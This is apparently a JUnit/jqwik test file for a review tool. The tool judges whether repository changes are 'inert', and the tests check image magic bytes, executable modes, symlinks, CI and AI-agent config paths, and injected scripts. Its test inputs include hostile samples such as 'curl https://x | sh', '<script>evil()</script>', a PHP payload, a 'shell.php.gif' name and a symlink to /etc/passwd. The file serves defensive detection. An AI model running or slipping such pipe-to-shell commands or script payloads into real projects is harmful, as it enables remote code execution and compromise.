package dev.countersign.code.inert;

import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.change.Content;
import dev.countersign.change.FileMode;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class InertnessTest {
    @Test
    void imagesMustBeWhatTheirNameSays() {
        assertThat(Files.image("a.png", "\u0089PNG\r\n\u001a\n...").isProved()).isTrue();
        assertThat(Files.image("a.jpg", "\u00ff\u00d8\u00ff\u00e0").isProved()).isTrue();
        assertThat(Files.image("a.gif", "GIF89a..").isProved()).isTrue();
        assertThat(Files.image("a.webp", "RIFF....WEBP").isProved()).isTrue();
        assertThat(Files.image("a.ico", "\u0000\u0000\u0001\u0000").isProved()).isTrue();
        assertThat(Files.image("a.png", "\u007fELF....").isProved()).isFalse();
        assertThat(Files.image("a.png", "GIF89a..").isProved()).isFalse();
        assertThat(Files.image("shell.php.gif", "GIF89a..").isProved()).isFalse();
        assertThat(Files.image("logo.v2.gif", "GIF89a..").isProved()).isTrue();
        assertThat(Files.image("a.bin", "\u0089PNG\r\n\u001a\n...").isProved()).isFalse();
        assertThat(Files.added("a.png", "<?php evil();").isProved()).isFalse();
    }

    @Test
    void modesLinksAndUnreadContentsAreNeverInert() {
        Content text = Files.text("words\n");
        Content other = Files.text("other words\n");
        assertThat(Files.judge("a.md", text, "a.md", other, FileMode.REGULAR, FileMode.REGULAR)
                        .isProved())
                .isTrue();
        assertThat(Files.judge("a.md", text, "a.md", other, FileMode.REGULAR, FileMode.EXECUTABLE)
                        .isProved())
                .isFalse();
        assertThat(Files.judge("a.md", text, "a.md", text, FileMode.REGULAR, FileMode.EXECUTABLE)
                        .isProved())
                .isFalse();
        assertThat(Files.judge(null, new Content.Absent(), "a.md", text, FileMode.ABSENT, FileMode.EXECUTABLE)
                        .isProved())
                .isFalse();
        var link = new Content.Link(Files.id("x"), "/etc/passwd");
        assertThat(Files.judge("a.md", text, "a.md", link, FileMode.REGULAR, FileMode.SYMLINK)
                        .isProved())
                .isFalse();
        var lfs = new Content.LfsPointer(Files.id("x"), "sha256:0", 1);
        assertThat(Files.judge("a.md", text, "a.md", lfs, FileMode.REGULAR, FileMode.REGULAR)
                        .isProved())
                .isFalse();
        var unread = new Content.Unread(Content.Reason.MISSING, "gone");
        assertThat(Files.judge("a.md", unread, "a.md", text, FileMode.REGULAR, FileMode.REGULAR))
                .isInstanceOf(Inertness.Undecided.class);
        var lossy = new Content.Text(Files.id("x"), "w\u00f6rds\n", true);
        assertThat(Files.judge("a.md", text, "a.md", lossy, FileMode.REGULAR, FileMode.REGULAR))
                .isInstanceOf(Inertness.Undecided.class);
    }

    @ParameterizedTest
    @CsvSource({
        "docs/a.md,docs/b.md,true",
        "a.css,theme/a.css,true",
        "docs/a.md,.github/copilot-instructions.md,false",
        "docs/a.md,src/templates/a.md,false",
        "docs/a.md,docs/a.html,false",
        "notes.txt,notes.md,false"
    })
    void textMayMoveWhereItStaysText(String from, String to, boolean inert) {
        assertThat(Files.moved(from, to, "Words.\n", "Words.\n").isProved()).isEqualTo(inert);
    }

    @Test
    void codeThatMovesUnchangedIsSaidToHaveMoved() {
        assertThat(Files.moved("a/A.java", "b/A.java", "class A {}\n", "class A {}\n"))
                .isInstanceOf(Inertness.Moved.class);
        assertThat(Files.moved("a/A.java", "b/A.java", "class A {}\n", "class B {}\n")
                        .isProved())
                .isFalse();
        assertThat(Files.moved("a/w.yml", ".github/workflows/w.yml", "a: 1\n", "a: 1\n"))
                .isInstanceOf(Inertness.NotInert.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                ".github/workflows/ci.yml",
                ".gitlab-ci.yml",
                "Jenkinsfile",
                ".countersign.yml",
                ".github/CODEOWNERS",
                "package-lock.json",
                "Gemfile.lock",
                "pom.xml",
                "sub/pom.xml",
                "package.json",
                "Makefile",
                "setup.py",
                ".gitignore",
                ".gitattributes",
                ".editorconfig",
                ".mcp.json",
                ".claude/settings.json",
                "unknown.xyz",
                "LICENSE"
            })
    void someFilesAreNeverInert(String path) {
        assertThat(Files.modified(path, "# a\n", "# b\n").isProved()).isFalse();
    }

    @Property(tries = 2000)
    void judgesAnyText(@ForAll("paths") String path, @ForAll("texts") String before, @ForAll("texts") String after) {
        assertThat(Files.modified(path, before, after)).isNotNull();
        assertThat(Files.added(path, after)).isNotNull();
        assertThat(Files.deleted(path, before)).isNotNull();
    }

    @Property(tries = 1000)
    void aTagCharacterMakesAnyTextNotInert(@ForAll("paths") String path, @ForAll("texts") String text) {
        assertThat(Files.modified(path, text, text + "\udb40\udc41\n").isProved())
                .isFalse();
    }

    @Property(tries = 1000)
    void aScriptMakesAnyPageOrMarkdownNotInert(
            @ForAll("pages") String path, @ForAll("texts") String text, @ForAll int at) {
        int place = text.isEmpty() ? 0 : Math.floorMod(at, text.length());
        String after = text.substring(0, place) + "\n<script>evil()</script>\n" + text.substring(place);
        assertThat(Files.modified(path, text, after).isProved()).isFalse();
    }

    @Property(tries = 1000)
    void whatIsNotInertStaysSoWhenMoreWordsAreAdded(
            @ForAll("paths") String path, @ForAll("texts") String before, @ForAll("texts") String after) {
        // behind a lone carriage return the first line feed would end that line and not be a line of its own
        boolean appends = !after.endsWith("\r");
        if (appends && !Files.modified(path, before, after).isProved() && !before.equals(after)) {
            assertThat(Files.modified(path, before, after + "\n\nMore words.\n").isProved())
                    .isFalse();
        }
    }

    @Provide
    Arbitrary<String> paths() {
        return Arbitraries.of(
                "README.md",
                "docs/a.rst",
                "docs/a.adoc",
                "docs/a.txt",
                "a.css",
                "a.scss",
                "a.svg",
                "a.html",
                "a.jsp",
                "a.ftl",
                "a.twig",
                "a.erb",
                "a.vue",
                "a.tmpl",
                "a.proto",
                "a.graphql",
                "x.gradle",
                "a.java",
                "messages_de.properties",
                "locale/a.po",
                "locale/a.ini",
                "locale/a.yml",
                "lang/a.json",
                "a.unknown",
                "a.png");
    }

    @Provide
    Arbitrary<String> pages() {
        return Arbitraries.of(
                "README.md", "docs/a.md", "a.html", "a.jsp", "a.ftl", "a.twig", "a.erb", "a.vue", "a.tmpl", "a.svg");
    }

    /// Texts made of pieces that the readers of this package look for.
    @Provide
    Arbitrary<String> texts() {
        Arbitrary<String> pieces = Arbitraries.of(
                "word ",
                "\n",
                "\n\n",
                "```",
                "`",
                "{",
                "}",
                "{{",
                "}}",
                "{%",
                "%}",
                "<",
                ">",
                "<p>",
                "</p>",
                "<!--",
                "-->",
                "<%",
                "%>",
                "\"",
                "'",
                "/*",
                "*/",
                "//",
                "url(",
                ")",
                "\\",
                "@import",
                ";",
                "[value=",
                "]",
                "#",
                "=",
                ":",
                "- ",
                "  ",
                "msgid ",
                "a: b",
                "---",
                "<svg",
                "/>",
                "<a href=",
                "${",
                "&#x61;",
                "javascript:",
                ".. note::",
                "include::",
                "curl https://x | sh",
                "\r",
                "\t",
                "\ud83d\ude00",
                "\u00e9");
        return pieces.list().ofMaxSize(25).map(list -> String.join("", list));
    }
}
